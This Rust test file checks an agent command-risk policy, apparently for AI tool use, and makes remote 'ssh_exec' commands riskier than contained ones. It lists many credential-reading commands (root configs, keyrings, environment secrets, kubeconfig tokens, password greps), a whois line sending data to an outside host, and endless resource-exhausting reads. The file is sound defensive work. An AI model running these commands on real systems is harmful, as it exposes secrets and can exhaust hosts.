//! `ssh_exec` runs `low` on the remote host with nothing containing it: its lines are judged
//! without counting on containment, while `run_command` (contained on this host) keeps its
//! verdicts.

use serde_json::json;
use warden_policy::{Policy, RiskLevel};

fn shipped() -> Policy {
    match Policy::load(None) {
        Ok(policy) => policy,
        Err(e) => panic!("the shipped policy does not load: {e}"),
    }
}

fn level(policy: &Policy, tool: &str, line: &str) -> RiskLevel {
    policy
        .decide(
            "user",
            tool,
            "mutating",
            &json!({"host": "web", "command": line}),
        )
        .level
}

/// Lines that are low on this host only because containment backs them (hidden paths, files
/// the contained user cannot read, an empty environment, git's repository programs), with the
/// least level they get through `ssh_exec`.
const RAISED: &[(&str, RiskLevel)] = &[
    ("cat /root/anaconda-ks.cfg", RiskLevel::High),
    ("strings /var/lib/etcd/member/snap/db", RiskLevel::High),
    ("cat /var/lib/cloud/instance/user-data.txt", RiskLevel::High),
    ("strings /var/lib/mysql/mysql/user.MYD", RiskLevel::High),
    ("cat /tmp/krb5cc_0", RiskLevel::High),
    ("cat /etc/gitlab-runner/config.toml", RiskLevel::High),
    ("cat /etc/ceph/ceph.client.admin.keyring", RiskLevel::High),
    ("cat /var/spool/cron/crontabs/root", RiskLevel::High),
    ("cat /var/mail/root", RiskLevel::High),
    ("cat /proc/1/cmdline", RiskLevel::High),
    ("tail -n 5 /home/alice/.bash_history", RiskLevel::High),
    ("head /etc/mysql/debian.cnf", RiskLevel::High),
    (
        "cat /var//lib/../lib/postgresql/15/main/PG_VERSION",
        RiskLevel::High,
    ),
    ("cat anaconda-ks.cfg", RiskLevel::High),
    ("cat ~/.bash_history", RiskLevel::High),
    ("grep -r password /var", RiskLevel::High),
    ("grep -r password .", RiskLevel::High),
    ("md5sum /var/lib/mysql/ibdata1", RiskLevel::High),
    // Other processes' environments (high on this host too) and `docker top C ps-options`.
    ("ps e", RiskLevel::High),
    ("docker top db -ef", RiskLevel::High),
    // A template file is printed as it is (a seventh review): a link planted in /tmp.
    ("kubectl get pods -o jsonpath-file=/tmp/x", RiskLevel::High),
    (
        "kubectl get pods -o go-template-file --template=/tmp/t",
        RiskLevel::High,
    ),
    ("env", RiskLevel::High),
    ("env -0", RiskLevel::High),
    ("printenv", RiskLevel::High),
    ("printenv AWS_SECRET_ACCESS_KEY", RiskLevel::High),
    ("jq -n env", RiskLevel::High),
    ("jq -n '$ENV'", RiskLevel::High),
    ("jq -n 'env.HOME'", RiskLevel::High),
    (
        "awk 'BEGIN{for (k in ENVIRON) print k, ENVIRON[k]}'",
        RiskLevel::High,
    ),
    ("git -C /srv/app status", RiskLevel::Medium),
    ("git -C /srv/app log --oneline -n 5", RiskLevel::Medium),
    ("whois -h 203.0.113.9 -p 4444 secretdata", RiskLevel::Medium),
    ("nslookup", RiskLevel::Medium),
    // Files the contained user's modes keep from it, printed by their own programs.
    ("crontab -l", RiskLevel::High),
    ("crontab -l -u root", RiskLevel::High),
    ("networkctl cat wg0", RiskLevel::High),
    ("networkctl --no-pager cat wg0.netdev", RiskLevel::High),
    // Names the program joins to a directory, climbing out of it to a hidden place.
    (
        "systemd-analyze cat-config ../root/notes.txt",
        RiskLevel::High,
    ),
    ("sysctl kernel/../../../root/notes.txt", RiskLevel::High),
    ("tree --fromfile /root/notes.txt", RiskLevel::High),
    ("modinfo -k ../../../root/x ext4", RiskLevel::High),
    // A fifth review: files in places any user can write to, judged by their text, may be
    // symbolic links another user planted there, leading to a secret the ssh user can read.
    ("cat /tmp/report.txt", RiskLevel::High),
    ("tail -n 50 /var/tmp/app.log", RiskLevel::High),
    ("grep -i error /tmp/debug.log", RiskLevel::High),
    ("head /var/crash/nginx.crash", RiskLevel::High),
    ("cat /run/lock/nginx.pid", RiskLevel::High),
    ("cat /usr/tmp/report.txt", RiskLevel::High),
    ("journalctl --file=/tmp/system.journal", RiskLevel::High),
    ("journalctl -D /var/tmp/journal", RiskLevel::High),
    ("grep -R password /tmp", RiskLevel::High),
    ("jq . /tmp/status.json", RiskLevel::High),
    ("sort /var/tmp/x | uniq -c", RiskLevel::High),
    // A sixth review: the positive model of a remote read. Paths are judged by their text, so a
    // file is read only where no one but root could have planted a link on the way; a service's
    // or a user's own directory is not proven (CVE-2016-1247 was such a link in nginx's logs).
    ("jq .environment /srv/app/status.json", RiskLevel::Medium),
    ("cat /srv/app/.env.example", RiskLevel::Medium),
    ("tail -n 50 /var/log/mysql/error.log", RiskLevel::Medium),
    (
        "tail /var/log/postgresql/postgresql-15-main.log",
        RiskLevel::Medium,
    ),
    ("cat /opt/app/conf/app.ini", RiskLevel::Medium),
    ("head /var/www/html/index.html", RiskLevel::Medium),
    ("cat /run/user/1000/app.sock.lock", RiskLevel::Medium),
    ("cat /run/postgresql/15-main.pid", RiskLevel::Medium),
    ("cat /etc/postgresql/15/main/pg_hba.conf", RiskLevel::Medium),
    ("env -C /srv/app cat config.yml", RiskLevel::Medium),
    ("md5sum /data/backup.tar", RiskLevel::Medium),
    ("grep -R error /var/log", RiskLevel::Medium),
    ("rg -L error /var/log", RiskLevel::Medium),
    ("grep -r error /srv/app/logs", RiskLevel::Medium),
    ("diff -r /etc/nginx /var/log/nginx", RiskLevel::Medium),
    // A seventh review: configuration outside the places known to be world-readable may be a
    // root-only secret under a name nothing knows (VNC passwords in libvirt's domain XML, BGP
    // passwords in FRR's, GRUB's password hash, CHAP secrets).
    ("cat /etc/libvirt/qemu/vm.xml", RiskLevel::Medium),
    ("grep passwd /etc/libvirt/qemu/web.xml", RiskLevel::Medium),
    ("cat /etc/frr/frr.conf", RiskLevel::Medium),
    ("cat /boot/grub/user.cfg", RiskLevel::Medium),
    ("head /boot/grub2/user.cfg", RiskLevel::Medium),
    ("cat /etc/iscsi/iscsid.conf", RiskLevel::Medium),
    ("cat /etc/chrony/chrony.keys", RiskLevel::Medium),
    ("cat /etc/netplan/50-cloud-init.yaml", RiskLevel::Medium),
    ("cat /etc/mail/authinfo", RiskLevel::Medium),
    ("cat /etc//frr/../frr/frr.conf", RiskLevel::Medium),
    (
        "systemd-analyze cat-config libvirt/qemu.conf",
        RiskLevel::Medium,
    ),
    (
        "kubectl get pods -o jsonpath-file=/etc/frr/frr.conf",
        RiskLevel::Medium,
    ),
    // A seventh review: an endless device read whole. Contained, a run has memory, time and
    // process bounds; remotely nothing bounds it, `sort` spills it to temporary files, and a
    // reader that prints nothing until its input ends outlives the connection.
    ("sort /dev/zero", RiskLevel::Medium),
    ("sort -S 100G /dev/urandom", RiskLevel::Medium),
    ("grep x /dev/zero", RiskLevel::Medium),
    ("md5sum /dev/zero", RiskLevel::Medium),
    ("tac /dev/urandom", RiskLevel::Medium),
    ("shuf /dev//zero", RiskLevel::Medium),
    ("wc -c /dev/random", RiskLevel::Medium),
    ("head -n 1 /dev/zero", RiskLevel::Medium),
    ("jq -R . /dev/zero", RiskLevel::Medium),
    // And a computation that may never end, printing nothing until it does.
    ("jq -n '[range(1e9)]'", RiskLevel::Medium),
    ("jq -n 'def f: f; f'", RiskLevel::Medium),
    ("jq -n '[repeat(1)]'", RiskLevel::Medium),
    ("awk 'BEGIN{while(1)x=x\"a\"}'", RiskLevel::Medium),
    ("awk 'BEGIN{for(;;);}'", RiskLevel::Medium),
    ("gawk 'function f(){f()} BEGIN{f()}'", RiskLevel::Medium),
    ("sed ':a;H;G;ba' /etc/passwd", RiskLevel::Medium),
    (
        "factor 1234567890123456789012345678901234567890",
        RiskLevel::Medium,
    ),
    // The kubeconfig, hidden from contained commands: its redacted view still prints OIDC
    // refresh tokens, client secrets, exec plugin environments and passwords.
    ("kubectl config view", RiskLevel::High),
    ("kubectl config view --minify", RiskLevel::High),
    (
        "kubectl config view -o jsonpath='{.users[*].user.auth-provider.config.refresh-token}'",
        RiskLevel::High,
    ),
    // Package files the query reads.
    ("dpkg -I /root/x.deb", RiskLevel::High),
    ("dpkg --contents /tmp/x.deb", RiskLevel::High),
    ("rpm -qpl /root/x.rpm", RiskLevel::High),
    ("rpm -q --package /tmp/x.rpm", RiskLevel::High),
    // A module file `modinfo FILE` reads.
    ("modinfo /root/rootkit.ko", RiskLevel::High),
    ("modinfo /tmp/x.ko", RiskLevel::High),
    // A saved netlink dump `ip monitor file` prints.
    ("ip monitor file /root/rtmon.log", RiskLevel::High),
    ("ip monitor all file /tmp/rtmon.log", RiskLevel::High),
    // Unit files that `systemd-analyze verify` loads (and quotes where it cannot parse them).
    (
        "systemd-analyze verify /root/backup.service",
        RiskLevel::High,
    ),
    (
        "systemd-analyze verify /home/alice/x.service",
        RiskLevel::High,
    ),
    ("systemd-analyze verify /tmp/x.service", RiskLevel::High),
    // Code run from the input or by a package manager's verb, with the user's rights.
    ("echo 'import os' | python3 -v", RiskLevel::High),
    ("env -C /srv/app npm version patch", RiskLevel::High),
    ("cargo check", RiskLevel::High),
];

/// Readers of other processes' command lines (`mysql -pPASS`, `--password=…`, `curl -u
/// user:pass`; procps prints them whole where the output is not a terminal). On this host they
/// are low, contained, and what reaches the model is redacted, as `process_list`'s listing is
/// (`ps aux | grep x` is what a host pipeline is for); where nothing contains them a human
/// decides.
const COMMAND_LINE_READERS: &[&str] = &[
    "ps auxww",
    "ps aux",
    "ps -aux",
    "ps ax",
    "ps -ef",
    "ps -eF",
    "ps -eo args",
    "ps -eo pid,user,cmd",
    "ps -e -o pid,command:80",
    "ps --format=pid,args",
    "ps -ef ww",
    "ps -O rss",
    "ps U postgres",
    "ps -fu www-data",
    "ps aux | grep mysql",
    "pgrep -a mysql",
    "pgrep -af mysql",
    "pgrep --list-full sshd",
    "top -bcn1",
    "top -b -n 1 -c",
    // Without -c too: the remote user's toprc (or /etc/topdefaultrc) may turn the column on,
    // and -c only toggles it (a fifth review's leftover).
    "top -bn1",
    "top -b -n 1 -o %MEM",
    "w",
    "w -h",
    "journalctl -F _CMDLINE",
    "journalctl --field=_cmdline",
    "journalctl -o verbose --output-fields=MESSAGE,_CMDLINE",
    "journalctl -o json -n 100 --output-fields=_CMDLINE",
    "journalctl -o export --output-fields=MESSAGE,_CMDLINE",
    "journalctl -o json --output-fields=MESSAGE,_CMDLINE",
    "systemctl status",
    "systemctl status nginx",
    "systemctl status --no-pager -n0 mysql",
    "systemd-cgls",
    "loginctl session-status",
    "loginctl user-status root",
    "docker top db",
    "timeout 5 ps auxww",
    "busybox ps",
    "busybox top -bn1",
    // Containers' whole command lines (a fifth review): listings without truncation, and the
    // event stream, whose exec events name each command run in a container.
    "docker ps --no-trunc",
    "docker container ls -a --no-trunc",
    "docker ps --no-trunc --format '{{.Command}}'",
    "docker compose ps --no-trunc",
    // A sixth review: compose before 2.21 printed its JSON summaries with each command whole.
    // (The whole row, `--format json`, also prints labels: high on this host too, round11.rs.)
    "docker compose ps --format '{{json .Command}}'",
    "docker compose ps --format '{{.Name}} {{json .Command}}'",
    "podman ps --no-trunc",
    // (Without a format, an event's line prints the containers' labels too: high on this host
    // as well, round11.rs.)
    "docker events --since 1h --until 0s --format '{{.Action}} {{.Actor.ID}}'",
    "docker system events --filter event=exec_start --format '{{.Action}}'",
    "podman events --since 1h --format '{{.Status}} {{.ID}}'",
    // A seventh review: compose's `top` asks the daemon for each container's `ps -ef`.
    "docker compose top",
    "docker compose top db",
    "docker compose -p shop top web",
    // A bus peer's credentials (a fifth review): its CommandLine=.
    "busctl status",
    "busctl status org.freedesktop.systemd1",
    "service nginx status",
    "service php8.2-fpm status",
    "ps aux --sort=-%mem | head -n 10",
    "ps -eo pid,ppid,cmd,%mem,%cpu --sort=-%cpu | head",
    "pgrep -a sshd",
    "journalctl -o json-pretty -n 5 --output-fields=_PID,_CMDLINE",
    "systemd-cgls --no-pager",
    "docker top web",
    "systemctl status postgresql",
    "ps aux | grep postgres",
    "systemctl status nginx --no-pager",
    "ps aux | grep nginx",
];

#[test]
fn command_line_readers_are_high_only_where_nothing_contains_them() {
    let policy = shipped();
    let mut wrong = Vec::new();
    for line in COMMAND_LINE_READERS {
        let remote = level(&policy, "ssh_exec", line);
        let here = level(&policy, "run_command", line);
        if remote < RiskLevel::High || here != RiskLevel::Low {
            wrong.push(format!(
                "{line:?}: ssh_exec {}, run_command {}",
                remote.as_str(),
                here.as_str()
            ));
        }
    }
    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
    // Forms that print names, ids and figures stay low on both.
    // (Without -o, ps takes its columns from PS_FORMAT where the remote environment sets one:
    // `ps -e` and `ps axc` are high there.)
    for line in [
        "ps -e -o pid,comm",
        "ps -eo pid,user,comm,%cpu,%mem --sort=-%cpu",
        "ps axc -o pid,comm,%cpu",
        "ps -C nginx -o pid,rss",
        "pgrep nginx",
        "who",
        "systemctl is-active nginx",
    ] {
        assert_eq!(level(&policy, "ssh_exec", line), RiskLevel::Low, "{line}");
        assert_eq!(
            level(&policy, "run_command", line),
            RiskLevel::Low,
            "{line}"
        );
    }
}

#[test]
fn ssh_exec_does_not_count_on_containment() {
    let policy = shipped();
    let mut lenient = Vec::new();
    for (line, least) in RAISED {
        let got = level(&policy, "ssh_exec", line);
        if got < *least {
            lenient.push(format!("{line:?} -> {}", got.as_str()));
        }
    }
    assert!(lenient.is_empty(), "too lenient:\n{}", lenient.join("\n"));
}

#[test]
fn run_command_keeps_what_containment_backs() {
    let policy = shipped();
    for line in [
        "cat /root/anaconda-ks.cfg",
        "cat /var/mail/root",
        "env",
        "printenv",
        "git -C /srv/app status",
        "sort /dev/zero",
        "md5sum /dev/zero",
        "jq -n '[range(1e9)]'",
        "sed ':a;H;G;ba' /etc/passwd",
    ] {
        assert_eq!(
            level(&policy, "run_command", line),
            RiskLevel::Low,
            "{line}"
        );
    }
}

#[test]
fn ssh_exec_reads_of_ordinary_places_stay_low() {
    let policy = shipped();
    for line in [
        // The monitor's remote readings (backend/core/src/monitor/remote.rs).
        "cat /proc/loadavg /proc/meminfo /proc/mounts",
        "getconf _NPROCESSORS_ONLN",
        "df -P -k -T -x tmpfs -x devtmpfs -x overlay -x squashfs -x nsfs -x aufs \
         -x erofs -x cramfs -x romfs -x iso9660 -x udf -x fuse.snapfuse -x fuse.squashfuse \
         -x fuse.squashfuse_ll",
        "uptime",
        // /var/log/syslog holds the kernel's audit records (high here, as kern.log is).
        "tail -n 50 /var/log/dpkg.log",
        "grep -r error /var/log/nginx",
        "cat /etc/nginx/nginx.conf",
        "cat /etc/os-release",
        "cat /etc/resolv.conf",
        "cat /etc/ssh/sshd_config",
        "cat /etc/apt/sources.list",
        "cat /usr/lib/systemd/system/nginx.service",
        "cat /etc/cron.d/certbot",
        "cat /boot/config-6.1.0",
        "head /etc/passwd",
        "head -c 32 /dev/urandom",
        "awk '{print $1}' /var/log/dpkg.log",
        "awk '{n[$1]++} END{for (k in n) print k, n[k]}' /var/log/nginx/access.log",
        "awk '{print \"done\", $0}' /var/log/dpkg.log",
        "jq -r '.[] | .domain' /usr/share/x.json",
        "sed -n 1,5p /etc/hosts",
        "factor 1234567890",
        "od -An -N16 -tx1 /dev/urandom",
        "cat /proc/self/cmdline",
        "journalctl -u nginx -n 50",
        "systemctl is-active nginx",
        "ps -eo pid,comm | grep nginx",
        "ps -eo pid,comm,%cpu,%mem",
        "ps -eo pid,comm,%cpu --sort=-%cpu",
        "pgrep nginx",
        "ls -la /tmp",
        "stat /tmp/report.txt",
        "find /tmp -name '*.log' -mtime +7",
        "du -sh /var/tmp",
        "systemd-analyze verify --man=no /usr/lib/systemd/system/nginx.service",
        "dig -r example.com",
        "tail -n 100 /var/log/nginx/error.log",
        "cat /var/run/nginx.pid",
        "grep -r error /var/log/apt/history.log /var/log/nginx",
        "grep -r error /var/log/mysql",
        "rg -i timeout /var/log/nginx",
        "dpkg -I /var/cache/apt/archives/nginx_1.22.1-9_amd64.deb",
        "stat /srv/app/config.yml",
        "ls -la /srv/app",
        "networkctl status",
        "cat /etc/systemd/journald.conf",
        "systemd-analyze unit-paths",
        "sysctl vm.swappiness",
    ] {
        assert_eq!(level(&policy, "ssh_exec", line), RiskLevel::Low, "{line}");
    }
    // The container client runs what the remote home's configuration chooses (its current
    // context through ssh, CLI plugins): medium there, low contained.
    for line in [
        "docker ps -q",
        "docker ps -a --format '{{.Names}} {{.Status}}'",
        "docker service ps -q web",
    ] {
        assert_eq!(
            level(&policy, "ssh_exec", line),
            RiskLevel::Medium,
            "{line}"
        );
        assert_eq!(
            level(&policy, "run_command", line),
            RiskLevel::Low,
            "{line}"
        );
    }
}
